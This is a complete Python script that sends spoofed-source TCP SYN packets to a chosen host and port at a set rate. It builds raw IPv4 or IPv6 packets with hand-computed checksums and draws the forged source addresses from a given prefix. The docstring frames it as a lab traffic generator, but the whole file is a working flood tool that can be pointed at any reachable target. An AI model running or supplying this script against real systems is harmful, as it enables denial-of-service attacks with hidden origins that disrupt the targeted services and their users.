"""Sends TCP SYNs to one host and port with forged sources, as a flood from elsewhere does (hping3 --rand-source would leave the lab's ranges).

usage: forged_syns.py PREFIX_OF_SOURCES TARGET PORT COUNT PER_SECOND
"""

import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_syn(source: bytes, target: bytes, port: int) -> bytes:
    """A TCP header with a SYN, its checksum over the addresses of either version (RFC 9293, RFC 8200 8.1)."""
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack("!HH", 6, len(tcp))
    return tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def packet(source: bytes, target: bytes, port: int) -> bytes:
    """It in an IP packet; the kernel fills in IPv4's checksum and length of a raw socket."""
    tcp = tcp_syn(source, target, port)
    if len(source) == 16:
        return struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, source, target) + tcp
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, source, target) + tcp


def main(prefix: str, target: str, port: int, count: int, per_second: int) -> None:
    sources = ipaddress.ip_network(prefix)
    family, victim = (socket.AF_INET6 if sources.version == 6 else socket.AF_INET), ipaddress.ip_address(target).packed
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            source = sources[random.randrange(1, sources.num_addresses - 1)].packed
            raw.sendto(packet(source, victim, port), (target, 0))
            time.sleep(1 / per_second)


main(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6]))
